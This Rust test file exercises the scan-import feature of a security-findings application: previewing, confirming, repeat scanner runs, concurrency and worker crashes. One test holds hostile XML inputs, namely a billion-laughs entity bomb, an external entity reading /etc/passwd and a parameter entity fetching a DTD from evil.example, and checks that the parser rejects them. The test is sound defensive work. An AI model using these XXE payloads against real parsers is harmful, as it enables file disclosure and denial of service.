//! Imports of scans: preview, confirm, repeat; and files that make nothing.

use domain::role::TeamRole;
use http::StatusCode;
use tests::{Answer, Browser, Cast, World};

use crate::fate::{End, Fate, worker_of};

const NESSUS: &[u8] = include_bytes!("../../shared/domain/tests/data/two_hosts.nessus");
const BURP: &[u8] = include_bytes!("../../shared/domain/tests/data/three_issues.xml");
const ZAP: &[u8] = include_bytes!("../../shared/domain/tests/data/two_sites.xml");
const ZAP_JSON: &[u8] = include_bytes!("../../shared/domain/tests/data/two_sites.json");
const NUCLEI: &[u8] = include_bytes!("../../shared/domain/tests/data/matches.jsonl");
const SARIF: &[u8] = include_bytes!("../../shared/domain/tests/data/tool.sarif");
const CSV: &[u8] = include_bytes!("../../shared/domain/tests/data/findings.csv");

struct Import {
    world: World,
    team: Browser,
    here: String,
    slug: domain::slug::Slug,
}

impl Import {
    async fn new() -> Self {
        Self::at(0).await
    }

    /// So many hours later: worlds share a bucket and draw the same ids, by the time.
    async fn at(hours: i64) -> Self {
        let world = World::new().await;
        world.advance(jiff::SignedDuration::from_hours(hours));
        let cast = Cast::play(&world).await;
        let acme = &cast.acme;
        let team = world
            .signed_in(&acme.workspace, acme.member(TeamRole::Member))
            .await;
        let client = &acme.clients[0];
        let here = format!("/clients/{}/engagements/{}", client.id, client.engagement);
        let slug = acme.workspace.slug.clone();
        let this = Self {
            world,
            team,
            here,
            slug,
        };
        // What the cast left for the worker.
        this.work().await;
        this
    }

    /// Sends a file through the function, and lets the worker read it.
    async fn upload(&mut self, name: &str, bytes: &[u8]) -> Answer {
        let id = self
            .world
            .app
            .new_id::<domain::id::kind::Import>()
            .to_string();
        let path = format!("{}/import", self.here);
        let answer = self.team.upload(&path, &id, name, bytes).await;
        self.work().await;
        answer
    }

    async fn work(&self) {
        worker::drain(&self.world.app).await.expect("swept");
    }

    /// Confirms, lets the worker do it, and gives where the page leads then.
    async fn confirm(&mut self, preview: &str, choice: &[(&str, &str)]) -> Answer {
        let confirmed = self.team.post(preview, choice).await;
        assert_eq!(confirmed.location(), preview, "{}", confirmed.body);
        self.work().await;
        self.team.get(preview).await
    }

    /// Items that belong to findings: a row, a text and an entry each.
    async fn items(&self) -> usize {
        let dump = self.world.dump().await;
        dump.keys().filter(|(_, sk)| sk.starts_with("F#")).count()
    }

    /// An import as it is kept.
    async fn kept(&self, preview: &str) -> domain::import::job::Import {
        let id = preview.rsplit('/').next().expect("an id").to_owned();
        let dump = self.world.dump().await;
        let sk = format!("IMPORT#{id}");
        let found = dump.into_iter().find(|((_, key), _)| *key == sk);
        serde_json::from_value(found.expect("an import").1).expect("it reads")
    }

    /// Whether the totals are those of the findings.
    async fn adds_up(&self) {
        let recount = self.world.app.directory().recount(&self.slug).await;
        let recount = recount.expect("counted").expect("there");
        assert!(recount.drifts.is_empty(), "{:?}", recount.drifts);
    }

    async fn drafts(&mut self) -> usize {
        let page = self
            .team
            .get(&format!("{}?show=drafts", self.here))
            .await
            .body;
        page.matches("state state-draft").count()
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_becomes_drafts_once_however_often_it_is_confirmed() {
    let mut import = Import::new().await;
    for (name, bytes, makes) in [
        ("scan.nessus", NESSUS, 2),
        ("issues.xml", BURP, 2),
        ("zap.xml", ZAP, 2),
        ("matches.jsonl", NUCLEI, 3),
        ("tool.sarif", SARIF, 4),
        ("findings.csv", CSV, 3),
    ] {
        let before = import.drafts().await;
        let uploaded = import.upload(name, bytes).await;
        assert_eq!(uploaded.status, StatusCode::SEE_OTHER, "{}", uploaded.body);
        let preview = uploaded.location().to_owned();
        let page = import.team.get(&preview).await.body;
        assert!(page.contains(name), "{page}");
        assert!(
            page.contains(&format!("This would make {makes} drafts")),
            "{page}"
        );
        assert_eq!(import.drafts().await, before, "nothing is made by looking");
        for _ in 0..3 {
            let made = import.confirm(&preview, &[]).await;
            assert_eq!(made.location(), format!("{}?show=drafts", import.here));
        }
        assert_eq!(import.drafts().await, before + makes, "{name}");
        let again = import.team.get(&preview).await;
        assert_eq!(again.location(), format!("{}?show=drafts", import.here));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn two_confirmations_at_once_make_everything_once() {
    let mut import = Import::new().await;
    let issue =
        |n: usize| format!("<issue><type>{n}</type><name>n{n}</name><host>h</host></issue>");
    // More than one transaction holds.
    let file = format!(
        "<issues>{}</issues>",
        (0..75).map(issue).collect::<String>()
    );
    let before = import.items().await;
    let preview = import
        .upload("many.xml", file.as_bytes())
        .await
        .location()
        .to_owned();
    let (mut one, mut two) = (import.team.clone(), import.team.clone());
    tokio::join!(one.post(&preview, &[]), two.post(&preview, &[]));
    let made = import.confirm(&preview, &[]).await;
    assert!(made.location().ends_with("?show=drafts"), "{}", made.body);
    assert_eq!(import.items().await, before + 3 * 75);
    import.adds_up().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_broken_and_foreign_files_say_why_and_make_nothing() {
    let mut import = Import::new().await;
    let before = import.world.dump().await;
    let entity = |inside: &str| {
        format!("<!DOCTYPE x [{inside}]><issues><issue><name>&a;</name></issue></issues>")
    };
    let laughs = entity("<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;\">");
    let outside = entity("<!ENTITY a SYSTEM \"file:///etc/passwd\">");
    let parameter = entity("<!ENTITY % a SYSTEM \"https://evil.example/x.dtd\"> %a;");
    let deep = format!("{}{}", "<issues>".repeat(200), "</issues>".repeat(200));
    let utf16: Vec<u8> =
        b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><issues>\xff\xfe</issues>".to_vec();
    let large = vec![b' '; 5 * 1024 * 1024];
    let huge = vec![b' '; 50 * 1024 * 1024];
    let nested = "[".repeat(100_000);
    let cases: [(&str, &[u8], &str); 19] = [
        ("cut.sarif", &SARIF[..500], "broken or incomplete"),
        ("odd.json", b"{\"site\": [7]}", "laid out as ZAP writes it"),
        (
            "other.json",
            b"{\"findings\": []}",
            "no scan that can be read",
        ),
        ("nested.json", nested.as_bytes(), "no scan that can be read"),
        ("nul.csv", b"name,host\0\nx,y", "no scan that can be read"),
        ("", b"", "Choose a file"),
        ("laughs.xml", laughs.as_bytes(), "entities"),
        ("outside.xml", outside.as_bytes(), "entities"),
        ("parameter.xml", parameter.as_bytes(), "entities"),
        ("deep.xml", deep.as_bytes(), "nested too deeply"),
        (
            "cut.nessus",
            &NESSUS[..NESSUS.len() / 2],
            "broken or incomplete",
        ),
        ("odd.xml", &utf16, "not text in the encoding"),
        (
            "zap.xml",
            b"<OWASPZAPReport><site/></OWASPZAPReport>",
            "no findings in this ZAP file",
        ),
        ("page.xml", b"<html></html>", "web page"),
        ("notes.txt", b"no markup here", "no scan that can be read"),
        ("none.xml", b"", "The file is empty"),
        ("nothing.xml", b"<issues></issues>", "no findings"),
        ("large.xml", &large, "larger than 4 MB. Without scripts"),
        ("huge.xml", &huge, "larger than 4 MB"),
    ];
    for (name, bytes, says) in cases {
        let answer = import.upload(name, bytes).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}");
        assert!(
            answer.body.contains("id=\"file-error\""),
            "{name}: at the field"
        );
        assert!(answer.body.contains(says), "{name}: {}", answer.body);
        assert!(!answer.body.contains("root:"), "{name}");
    }
    assert!(before == import.world.dump().await, "something was made");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_upload_needs_its_token_before_its_file() {
    let mut import = Import::new().await;
    let before = import.world.dump().await;
    import.team.cookies.remove("__Host-sid");
    let answer = import.upload("scan.nessus", NESSUS).await;
    assert!(
        answer.location().starts_with("/sign-in"),
        "{}",
        answer.status
    );
    assert!(before == import.world.dump().await);
}

const ODD: &[u8] = b"Colour,Place,Grade\nOld TLS,a.example,high\nOld TLS,b.example,low\nOpen relay,c.example,awful\n";

#[tokio::test(flavor = "multi_thread")]
async fn a_table_says_which_column_is_what_and_the_workspace_remembers() {
    let mut import = Import::new().await;
    let preview = import.upload("odd.csv", ODD).await.location().to_owned();
    let page = import.team.get(&preview).await.body;
    assert!(
        page.contains("Which column holds what") && !page.contains("This would make"),
        "{page}"
    );
    assert!(page.contains("Colour (as in “Old TLS”)"), "{page}");
    let refused = import.team.post(&preview, &[]).await;
    assert_eq!(
        refused.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "not before it is said"
    );

    let columns = format!("{preview}/columns");
    let wrong = import
        .team
        .post(&columns, &[("title", "Shape"), ("asset", "Place")])
        .await;
    assert_eq!(wrong.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        wrong.body.contains("id=\"title-error\"")
            && wrong.body.contains("<option value=\"Place\" selected"),
        "{}",
        wrong.body
    );
    let said = [
        ("title", "Colour"),
        ("asset", "Place"),
        ("severity", "Grade"),
    ];
    assert_eq!(import.team.post(&columns, &said).await.location(), preview);
    let page = import.team.get(&preview).await.body;
    assert!(page.contains("Reading the file"), "{page}");
    import.work().await;
    let page = import.team.get(&preview).await.body;
    assert!(
        page.contains("This would make 2 drafts") && page.contains("can&#39;t be read: 1")
            || page.contains("be read: 1"),
        "{page}"
    );
    import.confirm(&preview, &[]).await;
    assert_eq!(import.drafts().await, 1 + 2);
    let late = import.team.post(&columns, &said).await;
    assert_eq!(
        late.status,
        StatusCode::CONFLICT,
        "drafts were made: {}",
        late.body
    );

    // The same columns another time.
    let again = import
        .upload("later.csv", &[ODD, b"New,d.example,low\n"].concat())
        .await;
    let page = import.team.get(again.location()).await.body;
    assert!(page.contains("A later run of this scan: 1 new"), "{page}");
}

#[tokio::test(flavor = "multi_thread")]
async fn either_layout_of_zap_makes_the_same() {
    let mut import = Import::new().await;
    let mut made = Vec::new();
    for (name, bytes) in [("zap.xml", ZAP), ("zap.json", ZAP_JSON)] {
        let preview = import.upload(name, bytes).await.location().to_owned();
        let page = import.team.get(&preview).await.body;
        let list = page
            .split("rows-findings")
            .nth(1)
            .expect("a list")
            .to_owned();
        made.push(list);
    }
    assert_eq!(made[0], made[1]);
}

/// Presses the button of `path`'s move, at the version that the finding has.
async fn act(import: &mut Import, finding: &str, moves: &[(&str, &str)]) {
    for (event, version) in moves {
        let path = format!("{}/findings/{finding}/{event}", import.here);
        let fields = [("note", "Because."), ("version", *version)];
        let moved = import.team.post(&path, &fields).await;
        assert_eq!(
            moved.status,
            StatusCode::SEE_OTHER,
            "{event}: {}",
            moved.body
        );
    }
}

fn issues(types: &[u32]) -> Vec<u8> {
    let issue =
        |n: &u32| format!("<issue><type>{n}</type><name>Kind {n}</name><host>h</host></issue>");
    let all: String = types.iter().map(issue).collect();
    format!("<issues>{all}</issues>").into_bytes()
}

#[allow(clippy::too_many_lines)] // one story, told in order
#[tokio::test(flavor = "multi_thread")]
async fn a_later_run_makes_what_is_new_and_moves_what_is_gone_or_back() {
    let mut import = Import::new().await;
    let first = import
        .upload("first.xml", &issues(&[1, 2, 3, 4, 6, 7]))
        .await;
    let preview = first.location().to_owned();
    assert!(!import.team.get(&preview).await.body.contains("A later run"));
    import.confirm(&preview, &[]).await;
    let engagement = import
        .here
        .rsplit('/')
        .next()
        .expect("an id")
        .parse()
        .expect("an id");
    let known = |n: u32| {
        domain::import::Fingerprint::new("burp", &n.to_string())
            .finding(engagement)
            .to_string()
    };
    // The first stays open, the second was fixed, the third is open, the fourth is a
    // draft, the sixth is said to be fixed, the seventh is none.
    act(&mut import, &known(1), &[("publish", "1")]).await;
    act(
        &mut import,
        &known(2),
        &[("publish", "1"), ("resolve", "2"), ("fixed", "3")],
    )
    .await;
    act(
        &mut import,
        &known(6),
        &[("publish", "1"), ("resolve", "2")],
    )
    .await;
    act(
        &mut import,
        &known(7),
        &[("publish", "1"), ("false-positive", "2")],
    )
    .await;
    act(&mut import, &known(3), &[("publish", "1"), ("start", "2")]).await;

    let second = import
        .upload("second.xml", &issues(&[1, 2, 5, 6, 7]))
        .await
        .location()
        .to_owned();
    let page = import.team.get(&second).await.body;
    for part in [
        "A later run of this scan: 1 new",
        "<b>2</b> still there",
        "<b>2</b> back again",
        "<b>1</b> gone",
        "no longer reports: 1",
        "Import 1 finding<",
    ] {
        assert!(page.contains(part), "{part}: {page}");
    }
    assert!(
        page.contains(&format!("/findings/{}\">Kind 3", known(3))),
        "{page}"
    );
    let before = import.items().await;
    for _ in 0..2 {
        let choice = [("resolve_gone", "yes"), ("reopen_back", "yes")];
        let done = import.confirm(&second, &choice).await;
        assert_eq!(done.location(), format!("{}?show=drafts", import.here));
    }
    // A new finding; for each that moved, an entry; and the retest of the one that was
    // said to be fixed.
    assert_eq!(import.items().await, before + 3 + 3 + 1);
    import.adds_up().await;
    for (n, status, says) in [
        (1, "state-open", None),
        (2, "state-reopened", Some("Burp Suite reports it again")),
        (3, "state-resolved", Some("no longer reports it")),
        (4, "state-draft", None),
        (5, "state-draft", None),
        (6, "state-not_fixed", Some("Burp Suite reports it again")),
        (6, "state-reopened", None),
        (7, "state-false_positive", None),
    ] {
        let page = import
            .team
            .get(&format!("{}/findings/{}", import.here, known(n)))
            .await
            .body;
        assert!(
            page.contains(status) && says.is_none_or(|words| page.contains(words)),
            "{n}: {page}"
        );
    }

    // The same run once more holds nothing new, and without a tick nothing moves.
    act(&mut import, &known(3), &[("not-fixed", "4")]).await;
    let third = import
        .upload("third.xml", &issues(&[1, 2, 5, 6, 7]))
        .await
        .location()
        .to_owned();
    let page = import.team.get(&third).await.body;
    assert!(
        page.contains("A later run of this scan: 0 new") && page.contains(" Confirm<"),
        "{page}"
    );
    let before = import.items().await;
    assert_eq!(import.confirm(&third, &[]).await.location(), import.here);
    assert_eq!(import.items().await, before);
    assert!(
        import
            .team
            .get(&third)
            .await
            .location()
            .starts_with(&import.here),
        "it is done"
    );
    // Another scanner's run says nothing of these.
    let zap = import.upload("zap.xml", ZAP).await.location().to_owned();
    assert!(!import.team.get(&zap).await.body.contains("A later run"));
}

#[tokio::test(flavor = "multi_thread")]
async fn two_imports_of_the_same_findings_at_once_make_each_once() {
    let mut import = Import::new().await;
    let many: Vec<u32> = (1..=70).collect();
    let one = import
        .upload("one.xml", &issues(&many))
        .await
        .location()
        .to_owned();
    let two = import
        .upload("two.xml", &issues(&many[20..]))
        .await
        .location()
        .to_owned();
    let before = import.items().await;
    let (mut first, mut second) = (import.team.clone(), import.team.clone());
    tokio::join!(first.post(&one, &[]), second.post(&two, &[]));
    let another = import.world.cold().await;
    let (here, there) = tokio::join!(worker::drain(&import.world.app), worker::drain(&another));
    here.and(there).expect("swept");
    for path in [&one, &two] {
        let done = import.team.get(path).await;
        assert_eq!(done.status, StatusCode::SEE_OTHER, "done: {}", done.body);
    }
    assert_eq!(import.items().await, before + 3 * 70);
    import.adds_up().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_edited_finding_is_still_known_to_the_next_run() {
    let mut import = Import::new().await;
    let first = import
        .upload("first.xml", &issues(&[7]))
        .await
        .location()
        .to_owned();
    import.confirm(&first, &[]).await;
    let engagement = import
        .here
        .rsplit('/')
        .next()
        .expect("an id")
        .parse()
        .expect("an id");
    let id = domain::import::Fingerprint::new("burp", "7").finding(engagement);
    let fields = [
        ("title", "Our own words"),
        ("severity", "high"),
        ("version", "1"),
    ];
    let edited = import
        .team
        .post(&format!("{}/findings/{id}/edit", import.here), &fields)
        .await;
    assert_eq!(edited.status, StatusCode::SEE_OTHER);
    let again = import
        .upload("again.xml", &issues(&[7]))
        .await
        .location()
        .to_owned();
    let page = import.team.get(&again).await.body;
    assert!(
        page.contains("0 new") && page.contains("<b>1</b> still there"),
        "{page}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn what_does_not_fit_is_said_before_anything_is_made() {
    let mut import = Import::new().await;
    // More rows than one query gives, of 5,000 that an engagement may have.
    for types in [1..=2_000, 2_001..=4_000] {
        let file = issues(&types.collect::<Vec<u32>>());
        let preview = import.upload("many.xml", &file).await.location().to_owned();
        let made = import.confirm(&preview, &[]).await;
        assert_eq!(made.status, StatusCode::SEE_OTHER);
    }
    let more: Vec<u32> = (2..=4_000).step_by(4).chain(4_001..=5_000).collect();
    let preview = import
        .upload("more.xml", &issues(&more))
        .await
        .location()
        .to_owned();
    let page = import.team.get(&preview).await.body;
    for part in [
        "1000 new",
        "no longer reports: 3000",
        "has room for 995 more",
    ] {
        assert!(page.contains(part), "{part}");
    }
    let before = import.world.dump().await.len();
    let refused = import.team.post(&preview, &[]).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(import.world.dump().await.len(), before, "nothing is made");
}

/// A table of `titles` kinds in `rows` rows, with a text of `text` bytes in each.
fn table(titles: usize, rows: usize, text: usize) -> Vec<u8> {
    let severities = ["critical", "high", "medium", "low", "info"];
    let row = |n: usize| {
        let (kind, severity) = (n % titles, severities[n % 5]);
        let about = "words ".repeat(text / 6);
        format!("Weakness {kind:05},{severity},host{n}.example,{about}\n")
    };
    let rows: String = (0..rows).map(row).collect();
    format!("title,severity,asset,description\n{rows}").into_bytes()
}

/// Sends a file as the page's script does; the address that then says how far it is.
async fn send(import: &mut Import, name: &str, bytes: &[u8]) -> String {
    let id = import
        .world
        .app
        .new_id::<domain::id::kind::Upload>()
        .to_string();
    let size = bytes.len().to_string();
    let said = [("id", id.as_str()), ("name", name), ("size", &size)];
    let path = format!("{}/import", import.here);
    let told = import.team.ask(&path, &said).await;
    assert_eq!(told.status, StatusCode::OK, "{}", told.body);
    let told: serde_json::Value = serde_json::from_str(&told.body).expect("JSON");
    let (status, said) = tests::bucket::put_file(&told, &[], bytes).await;
    assert_eq!(status, StatusCode::CREATED, "{said}");
    let complete = told["complete"].as_str().expect("an address");
    let there = import.team.post(complete, &[]).await;
    there.location().to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_large_file_goes_by_the_bucket_and_becomes_findings_by_a_job() {
    let mut import = Import::at(401).await;
    let file = table(4_900, 5_000, 1_200);
    assert!(file.len() > 5 * 1024 * 1024);
    let here = send(&mut import, "large.csv", &file).await;
    let page = import.team.get(&here).await;
    assert_eq!(page.headers["refresh"], "2", "it looks again");
    assert!(page.body.contains("Checking the file"), "{}", page.body);
    import.work().await;
    let page = import.team.get(&here).await;
    assert!(!page.headers.contains_key("refresh"));
    for part in ["This would make 4900 drafts", "5000 rows", "And 4800 more."] {
        assert!(page.body.contains(part), "{part}: {}", page.body);
    }
    let before = import.items().await;
    let confirmed = import.team.post(&here, &[]).await;
    assert_eq!(confirmed.location(), here);
    let page = import.team.get(&here).await.body;
    assert!(page.contains("0 of 4900 findings"), "{page}");
    import.work().await;
    let done = import.team.get(&here).await;
    assert_eq!(done.location(), format!("{}?show=drafts", import.here));
    assert_eq!(import.items().await, before + 3 * 4_900);
    import.adds_up().await;
    let again = send(&mut import, "again.csv", &table(2_000, 2_000, 60)).await;
    import.work().await;
    let page = import.team.get(&again).await.body;
    assert!(page.contains("<b>2000</b> still there"), "{page}");
    assert!(page.contains("no longer reports: 2900"), "{page}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_that_is_wrong_says_so_where_its_progress_was() {
    let mut import = Import::at(402).await;
    let large = "{\"site\":[".repeat(100_000);
    let before = import.items().await;
    for (name, bytes, says) in [
        ("cut.sarif", &SARIF[..500], "broken or incomplete"),
        ("deep.json", large.as_bytes(), "broken or incomplete"),
        ("notes.txt", b"no markup here", "no scan that can be read"),
    ] {
        let here = send(&mut import, name, bytes).await;
        import.work().await;
        let page = import.team.get(&here).await;
        assert!(!page.headers.contains_key("refresh"), "{name}: it is over");
        assert!(page.body.contains(says), "{name}: {}", page.body);
        let refused = import.team.post(&here, &[]).await;
        assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    }
    assert_eq!(import.items().await, before);
    let path = format!("{}/import", import.here);
    let id = import
        .world
        .app
        .new_id::<domain::id::kind::Upload>()
        .to_string();
    let said = [("id", id.as_str()), ("name", "a.csv"), ("size", "52428801")];
    let refused = import.team.ask(&path, &said).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        refused.body.contains("larger than 50 MB"),
        "{}",
        refused.body
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_worker_that_dies_at_every_step_makes_everything_once() {
    let mut import = Import::new().await;
    let known = table(40, 40, 60);
    let preview = import.upload("a.csv", &known).await.location().to_owned();
    import.confirm(&preview, &[]).await;
    let engagement = import.here.rsplit('/').next().expect("an id").parse();
    let engagement = engagement.expect("an id");
    for n in 0..20 {
        let title = format!("weakness {n:05}");
        let id = domain::import::Fingerprint::new("csv", &title).finding(engagement);
        act(&mut import, &id.to_string(), &[("publish", "1")]).await;
    }
    // Twenty are gone, and a hundred and sixty are new.
    let file = String::from_utf8(table(200, 200, 60)).expect("text");
    let kept = file.lines().filter(|line| {
        let number = line.get(9..14).and_then(|n| n.parse::<u32>().ok());
        number.is_none_or(|n| n >= 20)
    });
    let file = kept.collect::<Vec<_>>().join("\n");
    let here = import.upload("b.csv", file.as_bytes()).await;
    let here = here.location().to_owned();
    let before = import.items().await;
    import.team.post(&here, &[("resolve_gone", "yes")]).await;
    let letters = std::sync::Arc::default();
    let mut deaths = 0;
    while import.kept(&here).await.stage != domain::import::job::Stage::Done {
        // Each is allowed a few calls more than the one before it.
        let call = 20 + 15 * deaths;
        let end = if deaths % 2 == 0 {
            End::Before(call)
        } else {
            End::After(call)
        };
        let fate = Fate::new(end, &letters);
        let swept = worker::drain(&worker_of(&import.world, &fate)).await;
        assert!(swept.is_ok() || fate.is_dead(), "{swept:?}");
        deaths += usize::from(fate.is_dead());
        assert!(deaths < 10, "its effect is given up after ten");
        // Its lease ends.
        import
            .world
            .advance(jiff::SignedDuration::from_mins(1 << (deaths + 1)));
    }
    println!("died {deaths} times");
    assert!(deaths > 3, "it died {deaths} times only");
    assert_eq!(import.items().await, before + 3 * 160 + 20);
    import.adds_up().await;
    let kept = import.kept(&here).await;
    assert_eq!((kept.made, kept.done), (160, 180));
}
